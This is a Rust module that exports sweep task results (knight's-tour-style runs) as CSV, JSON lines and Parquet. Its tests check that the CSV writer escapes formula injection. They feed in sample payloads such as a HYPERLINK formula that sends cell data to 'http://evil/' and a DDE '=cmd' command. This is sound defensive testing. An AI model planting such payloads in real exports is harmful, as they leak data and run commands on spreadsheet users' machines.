//! Task results as exports write them (`ksweep export`, the dashboard's
//! downloads): one typed row per task, the same columns in CSV, JSON
//! lines and Parquet (documented in docs/export.md), booleans as
//! `true`/`false` everywhere.

use std::io::Write;
use std::sync::Arc;

use arrow_array::builder::{BooleanBuilder, ListBuilder, StringBuilder, UInt32Builder, UInt64Builder};
use arrow_array::{ArrayRef, RecordBatch};
use arrow_schema::{DataType, Field, Schema};
use parquet::arrow::ArrowWriter;
use serde::Serialize;
use sweep::{csv, ResultRow, Sweep};

use crate::error::{Error, Result};

/// The columns, in order, as every format names them.
pub const COLUMNS: [&str; 20] = [
    "sweep",
    "rule",
    "moves",
    "dims",
    "n",
    "shape",
    "method",
    "start",
    "success",
    "outcome",
    "attempts",
    "visited",
    "micros",
    "worker",
    "worker_version",
    "worker_host",
    "worker_cpu",
    "worker_features",
    "computed_by",
    sweep::csv::SWEEP_STATE,
];

/// One task's result.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct ExportRow {
    /// The id of the sweep exported.
    pub sweep: String,
    /// The move set's name: a rule `3,2`, a grid's label, or an unlabelled
    /// explicit list.
    pub rule: String,
    /// The move list (`3,2`, or `3,2,0 -3,2,0 ..`), on the first row of
    /// each configuration only ([`ExportRows`]): a long list is written once,
    /// not in every row.
    pub moves: Option<String>,
    pub dims: u32,
    /// N of a regular N^D board; None for other shapes.
    pub n: Option<u32>,
    /// The board's sides.
    pub shape: Vec<u32>,
    pub method: String,
    /// The start square's coordinates.
    pub start: Vec<u32>,
    pub success: bool,
    /// `tour`, `no-tour` (proven) or `gave-up`; empty from a peer too old
    /// to say.
    pub outcome: String,
    pub attempts: u32,
    pub visited: u64,
    pub micros: u64,
    pub worker: String,
    /// What the worker ran (docs/export.md); empty where not recorded.
    pub worker_version: String,
    pub worker_host: String,
    pub worker_cpu: String,
    pub worker_features: String,
    /// The id of the sweep that computed it (another one's where it was
    /// taken from stored results).
    pub computed_by: String,
    /// The sweep's state when exported: `done` only when every task has
    /// its result (see [`sweep::Progress::state_label`]).
    pub sweep_state: String,
}

/// Turns one sweep's result rows, in export order (by configuration),
/// into export rows: each carries the sweep's id and state, and the first of
/// each configuration its move list.
pub struct ExportRows {
    sweep: String,
    state: String,
    /// Each configuration's move list and board sides, by index.
    boards: Vec<(String, Vec<u32>)>,
    /// The configuration of the last row.
    last: Option<u32>,
}

impl ExportRows {
    /// A exporter for `sweep` (its id `sweep_id`), exported while it is `state`.
    pub fn new(sweep: &Sweep, sweep_id: &str, state: &str) -> ExportRows {
        let boards = sweep.configurations().iter().map(|c| (c.moves_list(), c.sides.clone())).collect();
        ExportRows { sweep: sweep_id.to_string(), state: state.to_string(), boards, last: None }
    }

    /// The export row of the next stored row.
    pub fn row(&mut self, r: ResultRow) -> ExportRow {
        let first = self.last != Some(r.config);
        self.last = Some(r.config);
        // The sides from the sweep's configuration, not the row's `8x8` label.
        let (moves, shape) = match self.boards.get(r.config as usize) {
            Some((moves, sides)) => (first.then(|| moves.clone()), sides.clone()),
            None => (None, Vec::new()),
        };
        ExportRow::new(r, &self.sweep, &self.state, moves, shape)
    }
}

impl ExportRow {
    /// The export row of a stored row of sweep `sweep` on a board of sides
    /// `shape`, exported while it is `state`, with the move list where it is
    /// the configuration's first.
    fn new(r: ResultRow, sweep: &str, state: &str, moves: Option<String>, shape: Vec<u32>) -> ExportRow {
        let n = shape.first().copied().filter(|&n| shape.iter().all(|&s| s == n));
        let outcome = r.outcome.map_or("", tour::Outcome::name).to_string();
        ExportRow {
            sweep: sweep.to_string(),
            rule: r.moves,
            moves,
            dims: r.dims,
            n,
            shape,
            method: r.method,
            start: r.start,
            success: r.success,
            outcome,
            attempts: r.attempts,
            visited: r.visited,
            micros: r.micros,
            worker: r.worker,
            sweep_state: state.to_string(),
            worker_version: r.worker_version,
            worker_host: r.worker_host,
            worker_cpu: r.worker_cpu,
            worker_features: r.worker_features,
            computed_by: r.computed_by,
        }
    }
}

/// A list in a CSV field: its JSON text (`[5,5]`), so a reader's
/// `json.loads` gives it back.
fn list(values: &[u32]) -> String {
    serde_json::to_string(values).expect("numbers serialise")
}

/// Writes CSV: a header, then a line per row, every field through
/// [`csv::field`], so text a user or peer chose (a worker's name, a grid's
/// label) opens in a spreadsheet as text, never as a formula, while rules,
/// move lists and numbers stay as they are.
pub struct CsvWriter;

impl CsvWriter {
    pub fn header(out: &mut impl Write) -> std::io::Result<()> {
        out.write_all(csv::record(COLUMNS).as_bytes())
    }

    pub fn write(r: &ExportRow, out: &mut impl Write) -> std::io::Result<()> {
        let (dims, n, shape, start) =
            (r.dims.to_string(), r.n.map_or_else(String::new, |n| n.to_string()), list(&r.shape), list(&r.start));
        let (attempts, visited, micros) = (r.attempts.to_string(), r.visited.to_string(), r.micros.to_string());
        let fields = [
            r.sweep.as_str(),
            &r.rule,
            r.moves.as_deref().unwrap_or(""),
            &dims,
            &n,
            &shape,
            &r.method,
            &start,
            if r.success { "true" } else { "false" },
            &r.outcome,
            &attempts,
            &visited,
            &micros,
            &r.worker,
            &r.worker_version,
            &r.worker_host,
            &r.worker_cpu,
            &r.worker_features,
            &r.computed_by,
            &r.sweep_state,
        ];
        out.write_all(csv::record(fields).as_bytes())
    }
}

/// Writes one JSON object per line, its keys the columns.
pub fn write_jsonl(r: &ExportRow, out: &mut impl Write) -> std::io::Result<()> {
    // Serialised first, so a closed pipe is an io::Error the CLI recognises.
    let mut line = serde_json::to_string(r).expect("an export row serialises");
    line.push('\n');
    out.write_all(line.as_bytes())
}

/// Writes a Parquet file, a row group per batch of rows.
pub struct ParquetWriter<W: Write + Send> {
    writer: ArrowWriter<W>,
    schema: Arc<Schema>,
}

/// A Parquet or Arrow failure as ours.
fn parquet_error(what: &str, e: impl std::fmt::Display) -> Error {
    Error::Internal(format!("{what}: {e}"))
}

/// The export's Arrow schema: the columns of [`COLUMNS`], typed.
pub fn export_schema() -> Arc<Schema> {
    let list =
        |name: &str| Field::new(name, DataType::List(Arc::new(Field::new_list_field(DataType::UInt32, true))), false);
    let schema = Arc::new(Schema::new(vec![
        Field::new("sweep", DataType::Utf8, false),
        Field::new("rule", DataType::Utf8, false),
        Field::new("moves", DataType::Utf8, true),
        Field::new("dims", DataType::UInt32, false),
        Field::new("n", DataType::UInt32, true),
        list("shape"),
        Field::new("method", DataType::Utf8, false),
        list("start"),
        Field::new("success", DataType::Boolean, false),
        Field::new("outcome", DataType::Utf8, false),
        Field::new("attempts", DataType::UInt32, false),
        Field::new("visited", DataType::UInt64, false),
        Field::new("micros", DataType::UInt64, false),
        Field::new("worker", DataType::Utf8, false),
        Field::new("worker_version", DataType::Utf8, false),
        Field::new("worker_host", DataType::Utf8, false),
        Field::new("worker_cpu", DataType::Utf8, false),
        Field::new("worker_features", DataType::Utf8, false),
        Field::new("computed_by", DataType::Utf8, false),
        Field::new(sweep::csv::SWEEP_STATE, DataType::Utf8, false),
    ]));
    debug_assert!(schema.fields().iter().map(|f| f.name().as_str()).eq(COLUMNS));
    schema
}

/// `rows` as one Arrow batch of [`export_schema`]: what a Parquet row group
/// holds and what the Python package hands pyarrow.
pub fn export_batch(schema: &Arc<Schema>, rows: &[ExportRow]) -> Result<RecordBatch> {
    let mut sweep = StringBuilder::new();
    let mut rule = StringBuilder::new();
    let mut moves = StringBuilder::new();
    let mut dims = UInt32Builder::new();
    let mut n = UInt32Builder::new();
    let mut shape = ListBuilder::new(UInt32Builder::new());
    let mut method = StringBuilder::new();
    let mut start = ListBuilder::new(UInt32Builder::new());
    let mut success = BooleanBuilder::new();
    let mut outcome = StringBuilder::new();
    let mut attempts = UInt32Builder::new();
    let mut visited = UInt64Builder::new();
    let mut micros = UInt64Builder::new();
    let mut worker = StringBuilder::new();
    let mut state = StringBuilder::new();
    // Where each result came from: its worker's provenance, its sweep.
    let mut origin: [StringBuilder; 5] = std::array::from_fn(|_| StringBuilder::new());
    for r in rows {
        sweep.append_value(&r.sweep);
        rule.append_value(&r.rule);
        moves.append_option(r.moves.as_deref());
        dims.append_value(r.dims);
        n.append_option(r.n);
        shape.values().append_slice(&r.shape);
        shape.append(true);
        method.append_value(&r.method);
        start.values().append_slice(&r.start);
        start.append(true);
        success.append_value(r.success);
        outcome.append_value(&r.outcome);
        attempts.append_value(r.attempts);
        visited.append_value(r.visited);
        micros.append_value(r.micros);
        worker.append_value(&r.worker);
        state.append_value(&r.sweep_state);
        for (column, value) in origin.iter_mut().zip([
            &r.worker_version,
            &r.worker_host,
            &r.worker_cpu,
            &r.worker_features,
            &r.computed_by,
        ]) {
            column.append_value(value);
        }
    }
    let mut columns: Vec<ArrayRef> = vec![
        Arc::new(sweep.finish()),
        Arc::new(rule.finish()),
        Arc::new(moves.finish()),
        Arc::new(dims.finish()),
        Arc::new(n.finish()),
        Arc::new(shape.finish()),
        Arc::new(method.finish()),
        Arc::new(start.finish()),
        Arc::new(success.finish()),
        Arc::new(outcome.finish()),
        Arc::new(attempts.finish()),
        Arc::new(visited.finish()),
        Arc::new(micros.finish()),
        Arc::new(worker.finish()),
    ];
    columns.extend(origin.iter_mut().map(|c| Arc::new(c.finish()) as ArrayRef));
    columns.push(Arc::new(state.finish()));
    RecordBatch::try_new(schema.clone(), columns).map_err(|e| parquet_error("building an Arrow batch", e))
}

impl<W: Write + Send> ParquetWriter<W> {
    /// A writer into `file`.
    pub fn new(file: W) -> Result<ParquetWriter<W>> {
        let schema = export_schema();
        let props = parquet::file::properties::WriterProperties::builder()
            .set_compression(parquet::basic::Compression::SNAPPY)
            .build();
        let writer = ArrowWriter::try_new(file, schema.clone(), Some(props))
            .map_err(|e| parquet_error("starting the Parquet file", e))?;
        Ok(ParquetWriter { writer, schema })
    }

    /// Writes `rows` as one batch.
    pub fn write(&mut self, rows: &[ExportRow]) -> Result<()> {
        let batch = export_batch(&self.schema, rows)?;
        self.writer.write(&batch).map_err(|e| parquet_error("writing the Parquet file", e))
    }

    /// Writes the footer; the file is complete only after this. Returns the writer.
    pub fn finish(self) -> Result<W> {
        self.writer.into_inner().map_err(|e| parquet_error("closing the Parquet file", e))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn export_row(rule: &str, worker: &str) -> ExportRow {
        ExportRow {
            sweep: "0123456789abcdef".into(),
            rule: rule.into(),
            moves: Some(rule.into()),
            dims: 2,
            n: Some(5),
            shape: vec![5, 5],
            method: "w".into(),
            start: vec![0, 3],
            success: true,
            outcome: "tour".into(),
            attempts: 1,
            visited: 25,
            micros: 7,
            worker: worker.into(),
            sweep_state: "done".into(),
            worker_version: "0.1.0 (abc123)".into(),
            worker_host: "node-1".into(),
            worker_cpu: "Some CPU".into(),
            worker_features: "sse4.1 ssse3".into(),
            computed_by: "0123456789abcdef".into(),
        }
    }

    fn csv_line(r: &ExportRow) -> String {
        let mut out = Vec::new();
        CsvWriter::write(r, &mut out).unwrap();
        String::from_utf8(out).unwrap()
    }

    #[test]
    fn a_worker_name_that_is_a_formula_is_written_as_text() {
        let line = csv_line(&export_row("2,1", "=HYPERLINK(\"http://evil/\"&A1,\"x\")"));
        assert_eq!(
            line,
            "0123456789abcdef,\"2,1\",\"2,1\",2,5,\"[5,5]\",w,\"[0,3]\",true,tour,1,25,7,\"'=HYPERLINK(\"\"http://evil/\"\"&A1,\"\"x\"\")\",\
             0.1.0 (abc123),node-1,Some CPU,sse4.1 ssse3,0123456789abcdef,done\n"
        );
        // A worker reports its own host and CPU: guarded the same way.
        let host = ExportRow { worker_host: "=cmd|' /C calc'!A0".into(), ..export_row("2,1", "w") };
        assert!(csv_line(&host).contains(",'=cmd|' /C calc'!A0,"), "{}", csv_line(&host));
        assert!(csv_line(&export_row("2,1", "@cmd")).contains(",'@cmd,"));
        assert!(csv_line(&export_row("2,1", "host-1")).contains(",host-1,"), "plain names unchanged");
    }

    #[test]
    fn a_move_list_starting_with_a_minus_is_kept() {
        let line = csv_line(&export_row("-2,1 -1,2 1,2 2,1", "w"));
        assert!(line.starts_with("0123456789abcdef,\"-2,1 -1,2 1,2 2,1\",\"-2,1 -1,2 1,2 2,1\",2,"), "{line}");
    }

    /// A grid's label is text its spec's author chose: a formula there is
    /// written as text too.
    #[test]
    fn a_grid_label_that_is_a_formula_is_written_as_text() {
        let r = ExportRow { moves: None, ..export_row("=1+1", "w") };
        assert!(csv_line(&r).starts_with("0123456789abcdef,'=1+1,,2,"), "{}", csv_line(&r));
    }

    /// The move list goes in the first row of each configuration only.
    #[test]
    fn the_move_list_is_written_once_per_configuration() {
        let spec = "name = \"t\"\nseed = 1\nstarts = 2\nmethods = [\"w\"]\n[[grid]]\n\
                    moves = [[2, 1], [1, 2], [-1, -2], [-2, -1]]\nlabel = \"mine\"\ndims = [2]\nn = [5, 6]\n";
        let sweep = Sweep::parse(spec).unwrap();
        let mut exporter = ExportRows::new(&sweep, "abc", "done");
        let row = |config: u32| ResultRow {
            config,
            moves: "mine".into(),
            dims: 2,
            shape: "5x5".into(),
            method: "w".into(),
            start: vec![0, 0],
            start_index: 0,
            success: true,
            outcome: None,
            attempts: 1,
            visited: 25,
            micros: 1,
            worker: "w".into(),
            worker_version: String::new(),
            worker_host: String::new(),
            worker_cpu: String::new(),
            worker_features: String::new(),
            computed_by: "abc".into(),
        };
        let rows: Vec<ExportRow> = [0, 0, 1, 1].into_iter().map(|c| exporter.row(row(c))).collect();
        let moves: Vec<Option<&str>> = rows.iter().map(|r| r.moves.as_deref()).collect();
        assert_eq!(moves, [Some("2,1 1,2 -1,-2 -2,-1"), None, Some("2,1 1,2 -1,-2 -2,-1"), None]);
        assert!(rows.iter().all(|r| r.sweep == "abc" && r.rule == "mine"));
        // The sides are the configuration's, whatever the row's label says.
        let shapes: Vec<(&[u32], Option<u32>)> = rows.iter().map(|r| (&r.shape[..], r.n)).collect();
        assert_eq!(shapes, [(&[5, 5][..], Some(5)), (&[5, 5], Some(5)), (&[6, 6], Some(6)), (&[6, 6], Some(6))]);
    }
}
